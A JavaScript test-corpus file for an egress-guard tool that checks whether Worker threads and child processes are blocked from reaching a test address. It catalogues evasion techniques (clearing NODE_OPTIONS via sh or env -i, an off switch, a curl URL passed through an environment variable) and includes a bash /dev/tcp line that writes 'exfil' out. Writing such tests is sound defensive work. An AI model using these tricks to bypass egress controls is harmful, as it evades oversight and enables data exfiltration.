// The process boundary: Worker threads (a file, `eval: true`, `execArgv: []`, an empty env, a data:
// URL) and child processes (node, `sh -c node`, NODE_OPTIONS cleared, fork, execSync, non-Node
// programs), started inside an in-process scope or under the `egress-guard/register` preload.
import { execSync, fork } from 'node:child_process'
import { pathToFileURL } from 'node:url'

const node = process.execPath
// Finding of the first corpus run (issue 17): fails closed, but unrecorded and unclear.
const REQUIRE_ESM = (who) =>
  `the preload is ESM loaded with --require: with require(esm) disabled the ${who} dies with ERR_REQUIRE_ESM before running anything (fail closed, nothing sent), but nothing is recorded and the error does not name egress-guard`
const remote = (t) => ({ kind: 'tcp', host: '198.18.0.10', port: t.port })
const inlineWorker = (port) => `
  const { parentPort } = require('node:worker_threads')
  const s = require('node:net').connect(${port}, '198.18.0.10')
  s.on('connect', () => { s.destroy(); parentPort.postMessage({ value: 'connected' }) })
  s.on('error', (e) => parentPort.postMessage({ error: { name: e.name, code: e.code, message: e.message } }))`

/** A case run under an in-process scope (`scope`) or under the preload alone (`preload`). */
const both = (id, title, verdict, run) => [
  {
    id: `${id}-scope`,
    title: `${title} (in-process scope)`,
    verdict,
    run: async (ctx) => {
      await ctx.guard()
      return run(ctx)
    },
  },
  { id: `${id}-preload`, title: `${title} (register preload)`, verdict, preload: true, run },
]

export default [
  ...both('worker-file', 'a Worker running a file', 'blocked', ({ kit, t }) =>
    kit.worker(kit.ATTACK, { workerData: remote(t) }),
  ),
  ...both('worker-eval', 'a Worker with eval: true', 'blocked', ({ kit, t }) =>
    kit.worker(inlineWorker(t.port), { eval: true }),
  ),
  ...both('worker-execargv-empty', 'a Worker with execArgv: []', 'blocked', ({ kit, t }) =>
    kit.worker(kit.ATTACK, { workerData: remote(t), execArgv: [] }),
  ),
  {
    id: 'worker-env-empty',
    title: 'a Worker with env: {} (in-process scope)',
    verdict: 'blocked',
    async run({ guard, kit, t }) {
      await guard()
      return kit.worker(kit.ATTACK, { workerData: remote(t), env: {} })
    },
  },
  {
    id: 'worker-data-url',
    title: 'a Worker from a data: URL (in-process scope)',
    verdict: 'blocked',
    async run({ guard, kit, t }) {
      await guard()
      const source = `import(${JSON.stringify(pathToFileURL(kit.ATTACK).href)})`
      return kit.worker(new URL(`data:text/javascript,${encodeURIComponent(source)}`), {
        workerData: remote(t),
      })
    },
  },
  {
    id: 'worker-no-require-module',
    title:
      'a Worker with execArgv: ["--no-experimental-require-module"] (the preload is ESM, loaded by --require)',
    verdict: 'blocked',
    knownEscape: REQUIRE_ESM('worker'),
    knownFindings: ['unclear', 'unrecorded'],
    async run({ guard, kit, t }) {
      await guard()
      return kit.worker(kit.ATTACK, { workerData: remote(t), execArgv: ['--no-experimental-require-module'] })
    },
  },
  ...both('child-node', 'a node child process', 'blocked', ({ kit, t }) =>
    kit.child(node, kit.attackArgs(remote(t))),
  ),
  ...both('child-sh-node', 'sh -c "node …"', 'blocked', ({ kit, t }) =>
    kit.child('sh', ['-c', `"${node}" ${kit.attackShell(remote(t))}`]),
  ),
  ...both('child-env-empty', 'a node child given env: {}', 'blocked', ({ kit, t }) =>
    kit.child(node, kit.attackArgs(remote(t)), { env: {} }),
  ),
  ...both('child-node-options-cleared', 'a node child given NODE_OPTIONS: ""', 'blocked', ({ kit, t }) =>
    kit.child(node, kit.attackArgs(remote(t)), { env: { ...process.env, NODE_OPTIONS: '' } }),
  ),
  {
    id: 'child-no-require-module',
    title: 'node --no-experimental-require-module child (the preload is ESM, loaded by --require)',
    verdict: 'blocked',
    knownEscape: REQUIRE_ESM('child'),
    knownFindings: ['unclear', 'unrecorded'],
    async run({ guard, kit, t }) {
      await guard()
      return kit.child(node, ['--no-experimental-require-module', ...kit.attackArgs(remote(t))])
    },
  },
  {
    id: 'child-fork',
    title: 'child_process.fork of the attack script',
    verdict: 'blocked',
    async run({ guard, kit, t }) {
      await guard()
      const child = fork(kit.ATTACK, [JSON.stringify(remote(t))], { silent: true })
      return resultOf(kit, child)
    },
  },
  {
    id: 'child-exec-sync',
    title: 'execSync of a node command line',
    verdict: 'blocked',
    async run({ guard, kit, t }) {
      await guard()
      const out = execSync(`"${node}" ${kit.attackShell(remote(t))}`, { encoding: 'utf8', timeout: 8000 })
      const line = out.split('\n').find((l) => l.startsWith('CORPUS-ATTACK '))
      const result = JSON.parse(line.slice('CORPUS-ATTACK '.length))
      if (result.error) throw kit.revive(result.error)
      return result.value
    },
  },
  {
    id: 'child-curl-url',
    title: 'curl with the remote URL on its command line: judged before it starts',
    verdict: 'blocked',
    async run({ guard, kit, t }) {
      await guard()
      return kit.child('curl', ['-s', '-m', '3', `http://198.18.0.10:${t.port}/`])
    },
  },
  ...both(
    'child-sh-node-options-cleared',
    'sh -c "NODE_OPTIONS= node …": a shell scrubs the preload',
    'sandbox-only',
    ({ kit, t }) => kit.child('sh', ['-c', `NODE_OPTIONS= "${node}" ${kit.attackShell(remote(t))}`]),
  ),
  {
    id: 'child-env-i',
    title: 'env -i node …: a non-Node program clears the environment',
    verdict: 'sandbox-only',
    async run({ guard, kit, t }) {
      await guard()
      return kit.child('env', ['-i', node, ...kit.attackArgs(remote(t))])
    },
  },
  {
    id: 'child-mode-off',
    title: 'a node child given EGRESS_GUARD_MODE=off (honoured on purpose: docs/cli.md)',
    verdict: 'sandbox-only',
    async run({ guard, kit, t }) {
      await guard()
      return kit.child(node, kit.attackArgs(remote(t)), { env: { ...process.env, EGRESS_GUARD_MODE: 'off' } })
    },
  },
  {
    id: 'child-curl-env-url',
    title: 'sh -c \'curl "$U"\': the URL is not on any command line',
    verdict: 'sandbox-only',
    async run({ guard, kit, t }) {
      await guard()
      return kit.child('sh', ['-c', 'curl -s -m 3 "$U"'], {
        env: { ...process.env, U: `http://198.18.0.10:${t.port}/` },
      })
    },
  },
  {
    id: 'child-bash-dev-tcp',
    title: "bash's /dev/tcp: a non-Node program opens the socket",
    verdict: 'sandbox-only',
    async run({ guard, kit, t }) {
      await guard()
      return kit.child('bash', ['-c', `echo exfil > /dev/tcp/198.18.0.10/${t.port}`])
    },
  },
]

function resultOf(kit, child) {
  return kit.timeout(
    new Promise((resolve, reject) => {
      let out = ''
      child.stdout.setEncoding('utf8').on('data', (d) => {
        out += d
      })
      child.on('error', reject)
      child.on('close', () => {
        const line = out.split('\n').find((l) => l.startsWith('CORPUS-ATTACK '))
        if (!line) return reject(new Error('corpus: forked child printed no result'))
        const result = JSON.parse(line.slice('CORPUS-ATTACK '.length))
        if (result.error) reject(kit.revive(result.error))
        else resolve(result.value)
      })
    }),
    9000,
  )
}
